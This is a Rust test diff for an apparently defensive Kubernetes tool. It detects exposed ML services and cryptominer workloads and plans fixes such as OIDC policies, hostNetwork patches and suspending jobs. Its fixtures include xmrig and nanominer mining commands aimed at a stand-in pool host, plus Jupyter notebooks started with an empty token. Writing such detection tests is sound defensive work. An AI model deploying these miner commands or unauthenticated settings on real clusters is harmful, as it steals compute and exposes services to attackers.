@@ -97,6 +97,10 @@ fn stopped(o: &Object) -> bool {
             .is_some(),
         "Notebook" => o.annotation("kubeflow-resource-stopped").is_some(),
         "Workflow" => at("spec.shutdown") == "Terminate",
+        "ScheduledSparkApplication" | "JobSet" => at("spec.suspend") == true,
+        "InferenceService" => o.annotation("serving.kserve.io/stop") == Some("true"),
+        "PipelineRun" => at("spec.status") == "Cancelled",
+        "TaskRun" => at("spec.status") == "TaskRunCancelled",
         k => panic!("no stop check for {k}"),
     }
 }
@@ -463,4 +467,564 @@ fn suspicious_workloads_are_stopped_only_when_asked() {
         plan(&[f], &objects, &asked).fixes.is_empty(),
         "medium: not stopped"
     );
+}
+
+/// The objects of a YAML stream.
+fn parse(yaml: &str) -> Vec<Object> {
+    let mut set = jackstop_manifests::reader::ManifestSet::default();
+    jackstop_manifests::reader::parse_text(yaml, "t.yaml", &ReadOptions::default(), &mut set);
+    assert!(set.errors.is_empty(), "{:?}", set.errors);
+    set.objects
+}
+
+/// MLflow behind an Envoy Gateway, by two routes (the UI and its API) to one Service.
+const ENVOY_GATEWAY: &str = r#"
+apiVersion: gateway.networking.k8s.io/v1
+kind: GatewayClass
+metadata: {name: eg}
+spec: {controllerName: gateway.envoyproxy.io/gatewayclass-controller}
+---
+apiVersion: gateway.networking.k8s.io/v1
+kind: Gateway
+metadata: {name: public, namespace: infra}
+spec:
+  gatewayClassName: eg
+  listeners: [{name: https, port: 443, protocol: HTTPS, allowedRoutes: {namespaces: {from: All}}}]
+---
+apiVersion: gateway.networking.k8s.io/v1
+kind: HTTPRoute
+metadata: {name: mlflow, namespace: mlops}
+spec:
+  parentRefs: [{name: public, namespace: infra}]
+  hostnames: [ml.example.com]
+  rules:
+  - matches: [{path: {type: PathPrefix, value: /mlflow/}}]
+    backendRefs: [{name: mlflow, port: 5000}]
+---
+apiVersion: gateway.networking.k8s.io/v1
+kind: HTTPRoute
+metadata: {name: mlflow-api, namespace: mlops}
+spec:
+  parentRefs: [{name: public, namespace: infra}]
+  rules:
+  - matches: [{path: {type: PathPrefix, value: /api/2.0/mlflow}}]
+    backendRefs: [{name: mlflow, port: 5000}]
+---
+apiVersion: v1
+kind: Service
+metadata: {name: mlflow, namespace: mlops}
+spec:
+  selector: {app: mlflow}
+  ports: [{port: 5000}]
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: mlflow, namespace: mlops}
+spec:
+  selector: {matchLabels: {app: mlflow}}
+  template:
+    metadata: {labels: {app: mlflow}}
+    spec:
+      containers:
+      - name: mlflow
+        image: ghcr.io/mlflow/mlflow:v2.12.1
+        command: [mlflow, server, --host, 0.0.0.0, --port, "5000"]
+        ports: [{containerPort: 5000}]
+"#;
+
+fn exposures(objects: &[Object]) -> Vec<(String, ResourceRef)> {
+    analyse(objects)
+        .into_iter()
+        .filter(|f| f.category == jackstop_core::Category::Exposure)
+        .map(|f| (f.rule, f.resource))
+        .collect()
+}
+
+#[test]
+fn envoy_gateway_routes_get_an_oidc_security_policy() {
+    let objects = parse(ENVOY_GATEWAY);
+    let before = exposures(&objects);
+    assert_eq!(before.len(), 1, "{before:?}");
+    assert_ne!(before[0].0, "JS-EXP-009", "unauthenticated before");
+    let plan = check_every_fix(&objects, &opts());
+    let fix = plan
+        .fixes
+        .iter()
+        .find(|f| f.action == "require-oidc")
+        .unwrap_or_else(|| panic!("no Envoy Gateway fix: {:#?}", plan.unfixed));
+    assert_eq!(fix.method, Method::Apply);
+    assert_eq!(fix.effect, Effect::Closes);
+    assert!(fix.needs_input, "the OIDC client is the user's to register");
+    assert!(fix.notes[0].starts_with("TODO"));
+    // One policy per route: both routes lead to the dashboard.
+    let targets: Vec<&Value> = fix
+        .documents
+        .iter()
+        .map(|d| &d["spec"]["targetRefs"][0])
+        .collect();
+    assert_eq!(targets.len(), 2, "{:#?}", fix.documents);
+    for (t, name) in targets.iter().zip(["mlflow", "mlflow-api"]) {
+        assert_eq!(t["group"], "gateway.networking.k8s.io");
+        assert_eq!(t["kind"], "HTTPRoute");
+        assert_eq!(t["name"], name);
+    }
+    let oidc = &fix.documents[0]["spec"]["oidc"];
+    assert_eq!(fix.documents[0]["metadata"]["namespace"], "mlops");
+    assert_eq!(
+        oidc["redirectURL"],
+        "https://ml.example.com/mlflow/oauth2/callback"
+    );
+    assert_eq!(oidc["clientSecret"]["name"], "jackstop-oidc-client");
+    assert!(oidc["provider"]["issuer"]
+        .as_str()
+        .unwrap()
+        .contains("TODO"));
+    // The finding becomes the authenticated exposure.
+    let after = exposures(&applied(&objects, fix));
+    assert_eq!(after.len(), 1);
+    assert_eq!(after[0].0, "JS-EXP-009");
+    // A policy on one of the two routes alone leaves the finding: both are needed.
+    let mut one = fix.clone();
+    one.documents.truncate(1);
+    assert_eq!(exposures(&applied(&objects, &one)), before);
+
+    // With a provider, its issuer; the client ID is still the user's.
+    let with = FixOptions {
+        oidc: Some(Oidc {
+            issuer: "https://login.example.com".into(),
+            jwks_uri: None,
+            audiences: vec![],
+        }),
+        ..opts()
+    };
+    let plan = check_every_fix(&objects, &with);
+    let fix = plan
+        .fixes
+        .iter()
+        .find(|f| f.action == "require-oidc")
+        .unwrap();
+    assert_eq!(
+        fix.documents[0]["spec"]["oidc"]["provider"]["issuer"],
+        "https://login.example.com"
+    );
+    assert!(fix.needs_input);
+}
+
+#[test]
+fn envoy_gateway_grpc_routes_get_jwt() {
+    let yaml = ENVOY_GATEWAY
+        .replace(
+            "kind: HTTPRoute\nmetadata: {name: mlflow-api",
+            "kind: GRPCRoute\nmetadata: {name: mlflow-api",
+        )
+        .replace(
+            "  - matches: [{path: {type: PathPrefix, value: /api/2.0/mlflow}}]\n",
+            "  - matches: [{method: {service: mlflow.Api}}]\n",
+        );
+    let objects = parse(&yaml);
+    let provider = FixOptions {
+        oidc: Some(Oidc {
+            issuer: "https://login.example.com".into(),
+            jwks_uri: Some("https://login.example.com/keys".into()),
+            audiences: vec!["mlflow".into()],
+        }),
+        ..opts()
+    };
+    let plan = check_every_fix(&objects, &provider);
+    let fix = plan
+        .fixes
+        .iter()
+        .find(|f| f.action == "require-oidc")
+        .unwrap_or_else(|| panic!("{:#?}", plan.unfixed));
+    let grpc = fix
+        .documents
+        .iter()
+        .find(|d| d["spec"]["targetRefs"][0]["kind"] == "GRPCRoute")
+        .expect("a policy for the GRPCRoute");
+    let jwt = &grpc["spec"]["jwt"]["providers"][0];
+    assert_eq!(jwt["issuer"], "https://login.example.com");
+    assert_eq!(jwt["remoteJWKS"]["uri"], "https://login.example.com/keys");
+    assert_eq!(jwt["audiences"][0], "mlflow");
+    assert!(grpc["spec"].get("oidc").is_none());
+
+    // The GRPCRoute alone, with every input given: nothing to fill in.
+    let grpc_only: Vec<&str> = yaml
+        .split("\n---\n")
+        .filter(|d| !d.contains("name: mlflow, namespace: mlops}\nspec:\n  parentRefs"))
+        .collect();
+    assert_eq!(grpc_only.len(), 5);
+    let grpc_only = grpc_only.join("\n---\n");
+    let objects = parse(&grpc_only);
+    let plan = check_every_fix(&objects, &provider);
+    let fix = plan
+        .fixes
+        .iter()
+        .find(|f| f.action == "require-jwt")
+        .unwrap_or_else(|| panic!("{:#?}", plan.fixes));
+    assert!(!fix.needs_input, "{:#?}", fix.notes);
+    // Without the keys' address, a placeholder.
+    let no_keys = FixOptions {
+        oidc: Some(Oidc {
+            issuer: "https://login.example.com".into(),
+            ..Oidc::default()
+        }),
+        ..opts()
+    };
+    let plan = check_every_fix(&objects, &no_keys);
+    let fix = plan
+        .fixes
+        .iter()
+        .find(|f| f.action == "require-jwt")
+        .unwrap();
+    assert!(fix.needs_input);
+    assert!(fix.notes[0].contains("--oidc-jwks-uri"));
+}
+
+#[test]
+fn gateways_that_are_not_envoy_gateway_are_refused() {
+    let istio = ENVOY_GATEWAY.replace(
+        "gateway.envoyproxy.io/gatewayclass-controller",
+        "istio.io/gateway-controller",
+    );
+    let objects = parse(&istio);
+    let plan = check_every_fix(&objects, &opts());
+    assert!(plan.fixes.is_empty(), "{:#?}", plan.fixes);
+    assert!(
+        plan.unfixed[0]
+            .reason
+            .contains("run by istio.io/gateway-controller, not Envoy Gateway"),
+        "{:#?}",
+        plan.unfixed
+    );
+    // No GatewayClass read: by its name.
+    let no_class = |class: &str| {
+        let yaml = ENVOY_GATEWAY
+            .split("\n---\n")
+            .skip(1)
+            .collect::<Vec<_>>()
+            .join("\n---\n")
+            .replace(
+                "gatewayClassName: eg",
+                &format!("gatewayClassName: {class}"),
+            );
+        let objects = parse(&yaml);
+        check_every_fix(&objects, &opts())
+    };
+    let nginx = no_class("nginx");
+    assert!(nginx.fixes.is_empty());
+    assert!(nginx.unfixed[0]
+        .reason
+        .contains("kubectl get gatewayclass nginx"));
+    let envoy = no_class("envoy-public");
+    let fix = &envoy.fixes[0];
+    assert!(fix
+        .notes
+        .iter()
+        .any(|n| n.contains("kubectl get gatewayclass envoy-public")));
+}
+
+#[test]
+fn a_route_with_a_security_policy_already_is_refused() {
+    let yaml = format!(
+        "{ENVOY_GATEWAY}---\n{}",
+        "apiVersion: gateway.envoyproxy.io/v1alpha1\nkind: SecurityPolicy\nmetadata: {name: cors, namespace: mlops}\nspec:\n  targetRefs: [{group: gateway.networking.k8s.io, kind: HTTPRoute, name: mlflow-api}]\n  cors: {allowOrigins: ['https://ml.example.com']}\n"
+    );
+    let objects = parse(&yaml);
+    let plan = check_every_fix(&objects, &opts());
+    assert!(plan.fixes.is_empty(), "{:#?}", plan.fixes);
+    assert!(
+        plan.unfixed[0]
+            .reason
+            .contains("SecurityPolicy mlops/cors already targets HTTPRoute mlops/mlflow-api"),
+        "{:#?}",
+        plan.unfixed
+    );
+}
+
+/// Applies an RFC 6902 JSON patch (the test, remove and replace operations).
+fn json_patch(target: &mut Value, ops: &Value) {
+    for op in ops.as_array().unwrap() {
+        let path = op["path"].as_str().unwrap();
+        let (parent, key) = path.rsplit_once('/').unwrap();
+        match op["op"].as_str().unwrap() {
+            "test" => assert_eq!(target.pointer(path), Some(&op["value"]), "test {path}"),
+            "remove" => {
+                let p = target.pointer_mut(parent).unwrap().as_object_mut().unwrap();
+                assert!(p.remove(key).is_some(), "remove {path}");
+            }
+            "replace" => {
+                let p = target.pointer_mut(parent).unwrap().as_object_mut().unwrap();
+                assert!(p.insert(key.into(), op["value"].clone()).is_some());
+            }
+            o => panic!("op {o}"),
+        }
+    }
+}
+
+/// The objects after the JSON patch of an `kubectl patch --type json -p '...'` command.
+fn after_command(objects: &[Object], reason: &str) -> Vec<Object> {
+    let cmd = reason
+        .split('`')
+        .find(|c| c.contains("--type json"))
+        .unwrap_or_else(|| panic!("no JSON patch command in: {reason}"));
+    let words: Vec<&str> = cmd.split_whitespace().collect();
+    assert_eq!(&words[..2], ["kubectl", "-n"]);
+    let (ns, kind_group, name) = (words[2], words[4], words[5]);
+    let ops: Value = serde_json::from_str(cmd.split('\'').nth(1).unwrap()).unwrap();
+    let mut out = objects.to_vec();
+    let o = out
+        .iter_mut()
+        .find(|o| {
+            jackstop_fixes::kubectl_resource(&o.resource()) == kind_group
+                && o.name == name
+                && o.effective_namespace() == ns
+        })
+        .unwrap_or_else(|| panic!("{kind_group} {ns}/{name}"));
+    let mut body = o.body.clone();
+    json_patch(&mut body, &ops);
+    *o = Object::from_value(body, o.source.clone(), FieldLines::default()).unwrap();
+    out
+}
+
+const HOST_NETWORK: &str = r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: lab, namespace: ml}
+spec:
+  selector: {matchLabels: {app: lab}}
+  template:
+    metadata: {labels: {app: lab}}
+    spec:
+      hostNetwork: true
+      containers:
+      - name: lab
+        image: quay.io/jupyter/base-notebook
+        args: [start-notebook.py, "--IdentityProvider.token=''"]
+        ports: [{containerPort: 8888}]
+"#;
+
+#[test]
+fn host_network_is_turned_off_by_a_merge_patch() {
+    let objects = parse(HOST_NETWORK);
+    assert_eq!(exposures(&objects).len(), 1);
+    let plan = check_every_fix(&objects, &opts());
+    assert_eq!(plan.fixes.len(), 1, "{:#?}", plan.unfixed);
+    let fix = &plan.fixes[0];
+    assert_eq!(fix.action, "no-host-network");
+    assert_eq!(
+        fix.documents[0],
+        serde_json::json!({"spec": {"template": {"spec": {"hostNetwork": false}}}})
+    );
+    assert!(exposures(&applied(&objects, fix)).is_empty());
+}
+
+#[test]
+fn host_ports_are_refused_with_the_json_patch_that_removes_them() {
+    // hostNetwork with a hostPort too (what the API server defaults on hostNetwork pods).
+    let both = HOST_NETWORK.replace(
+        "ports: [{containerPort: 8888}]",
+        "ports: [{name: http, containerPort: 8888, hostPort: 8888}]",
+    );
+    // A DaemonSet with a hostPort only, on its second port.
+    let host_port = HOST_NETWORK
+        .replace("kind: Deployment", "kind: DaemonSet")
+        .replace("      hostNetwork: true\n", "")
+        .replace(
+            "ports: [{containerPort: 8888}]",
+            "ports: [{containerPort: 9000}, {containerPort: 8888, hostPort: 8888}]",
+        );
+    for (yaml, field, command) in [
+        (
+            both,
+            "spec.template.spec.containers[0].ports",
+            r#"kubectl -n ml patch deployment.apps lab --type json -p '[{"op":"replace","path":"/spec/template/spec/hostNetwork","value":false},{"op":"test","path":"/spec/template/spec/containers/0/ports/0/hostPort","value":8888},{"op":"remove","path":"/spec/template/spec/containers/0/ports/0/hostPort"}]'"#,
+        ),
+        (
+            host_port,
+            "spec.template.spec.containers[0].ports",
+            r#"kubectl -n ml patch daemonset.apps lab --type json -p '[{"op":"test","path":"/spec/template/spec/containers/0/ports/1/hostPort","value":8888},{"op":"remove","path":"/spec/template/spec/containers/0/ports/1/hostPort"}]'"#,
+        ),
+    ] {
+        let objects = parse(&yaml);
+        assert_eq!(exposures(&objects).len(), 1);
+        let plan = check_every_fix(&objects, &opts());
+        assert!(plan.fixes.is_empty(), "{:#?}", plan.fixes);
+        let reason = &plan.unfixed[0].reason;
+        assert!(reason.contains(field), "{reason}");
+        assert!(reason.contains(command), "{reason}");
+        // The command does close the finding.
+        assert!(exposures(&after_command(&objects, reason)).is_empty());
+    }
+    // A bare Pod cannot be changed: deleted and created again.
+    let pod = r#"
+apiVersion: v1
+kind: Pod
+metadata: {name: lab, namespace: ml, labels: {app: lab}}
+spec:
+  containers:
+  - name: lab
+    image: quay.io/jupyter/base-notebook
+    args: [start-notebook.py, "--IdentityProvider.token=''"]
+    ports: [{containerPort: 8888, hostPort: 8888}]
+"#;
+    let objects = parse(pod);
+    let plan = check_every_fix(&objects, &opts());
+    assert!(plan.fixes.is_empty());
+    assert!(
+        plan.unfixed[0]
+            .reason
+            .contains("`kubectl -n ml delete pod lab`"),
+        "{:#?}",
+        plan.unfixed
+    );
+}
+
+/// Miners in the kinds of KServe, the Spark operator, Tekton, JobSet and KubeRay.
+const MINER_KINDS: &str = r#"
+apiVersion: serving.kserve.io/v1beta1
+kind: InferenceService
+metadata: {name: isvc, namespace: team}
+spec:
+  predictor:
+    containers:
+    - name: kserve-container
+      image: registry.example.com/model:1.0
+      args: ["--", "nanominer", "-c", "config.ini", "--coin", "monero"]
+---
+apiVersion: sparkoperator.k8s.io/v1beta2
+kind: ScheduledSparkApplication
+metadata: {name: nightly, namespace: team}
+spec:
+  schedule: "@daily"
+  template:
+    type: Python
+    image: registry.example.com/spark:3.5
+    mainApplicationFile: local:///opt/app/main.py
+    arguments: ["--pool", "stratum+tcp://pool.example.invalid:3333", "--donate-level", "1"]
+    driver: {cores: 1}
+    executor: {instances: 2}
+---
+apiVersion: tekton.dev/v1
+kind: PipelineRun
+metadata: {name: pr, namespace: ci}
+spec:
+  pipelineSpec:
+    tasks:
+    - name: t
+      taskSpec:
+        steps: [{name: s, image: alpine, script: "xmrig -o pool.example.invalid:3333 --donate-level 1"}]
+---
+apiVersion: tekton.dev/v1
+kind: TaskRun
+metadata: {name: tr, namespace: ci}
+spec:
+  taskSpec:
+    steps: [{name: s, image: alpine, script: "xmrig -o pool.example.invalid:3333 --donate-level 1"}]
+---
+apiVersion: jobset.x-k8s.io/v1alpha2
+kind: JobSet
+metadata: {name: js, namespace: team}
+spec:
+  replicatedJobs:
+  - name: w
+    template:
+      spec:
+        template:
+          spec:
+            containers: [{name: w, image: alpine, command: [sh, -c, "xmrig -o pool.example.invalid:3333 --donate-level 1"]}]
+"#;
+
+#[test]
+fn more_kinds_of_miner_are_stopped() {
+    let objects = parse(MINER_KINDS);
+    let plan = check_every_fix(&objects, &opts());
+    let mut stops: Vec<(String, &str)> = plan
+        .fixes
+        .iter()
+        .filter(|f| f.effect == Effect::Stops)
+        .map(|f| (f.target.kind.clone(), f.action))
+        .collect();
+    stops.sort();
+    assert_eq!(
+        stops,
+        [
+            ("InferenceService".to_string(), "stop-inferenceservice"),
+            ("JobSet".into(), "suspend"),
+            ("PipelineRun".into(), "cancel"),
+            ("ScheduledSparkApplication".into(), "suspend"),
+            ("TaskRun".into(), "cancel"),
+        ],
+        "{:#?}",
+        plan.unfixed
+    );
+    let isvc = plan
+        .fixes
+        .iter()
+        .find(|f| f.target.kind == "InferenceService")
+        .unwrap();
+    assert!(isvc.notes.iter().any(|n| n.contains("KServe 0.14")));
+}
+
+#[test]
+fn kinds_that_cannot_be_stopped_say_how_to_delete_them() {
+    let yaml = r#"
+apiVersion: sparkoperator.k8s.io/v1beta2
+kind: SparkApplication
+metadata: {name: spark, namespace: team}
+spec:
+  type: Python
+  image: registry.example.com/spark:3.5
+  mainApplicationFile: local:///opt/app/main.py
+  arguments: ["--pool", "stratum+tcp://pool.example.invalid:3333", "--donate-level", "1"]
+  driver: {cores: 1}
+  executor: {instances: 2}
+---
+apiVersion: ray.io/v1
+kind: RayService
+metadata: {name: serve, namespace: team}
+spec:
+  rayClusterConfig:
+    headGroupSpec:
+      rayStartParams: {}
+      template:
+        spec:
+          containers: [{name: ray-head, image: "rayproject/ray:2.9.0", command: [sh, -c, "xmrig -o pool.example.invalid:3333 --donate-level 1"]}]
+---
+apiVersion: tekton.dev/v1
+kind: Task
+metadata: {name: t, namespace: ci}
+spec:
+  steps: [{name: s, image: alpine, script: "xmrig -o pool.example.invalid:3333 --donate-level 1"}]
+---
+apiVersion: serving.kserve.io/v1alpha1
+kind: LLMInferenceService
+metadata: {name: llm, namespace: team}
+spec:
+  template:
+    containers: [{name: main, image: alpine, command: [sh, -c, "xmrig -o pool.example.invalid:3333 --donate-level 1"]}]
+"#;
+    let objects = parse(yaml);
+    let plan = check_every_fix(&objects, &opts());
+    assert!(
+        plan.fixes.iter().all(|f| f.effect != Effect::Stops),
+        "{:#?}",
+        plan.fixes
+    );
+    let reason = |kind: &str| {
+        plan.unfixed
+            .iter()
+            .find(|u| u.finding.resource.kind == kind && u.finding.rule.starts_with("JS-MIN"))
+            .unwrap_or_else(|| panic!("{kind}: {:#?}", plan.unfixed))
+            .reason
+            .clone()
+    };
+    let spark = reason("SparkApplication");
+    assert!(spark.contains("`kubectl delete sparkapplication.sparkoperator.k8s.io spark -n team`"));
+    assert!(spark.contains("`kubectl logs -n team spark-driver`"));
+    assert!(spark.contains("-o yaml"));
+    let ray = reason("RayService");
+    assert!(ray.contains("`kubectl delete rayservice.ray.io serve -n team`"));
+    assert!(reason("Task").contains("`kubectl delete task.tekton.dev t -n ci`"));
+    // A kind next to the ones handled (same group as InferenceService): refused, not guessed.
+    assert!(reason("LLMInferenceService").contains("knows no way to stop a LLMInferenceService"));
 }
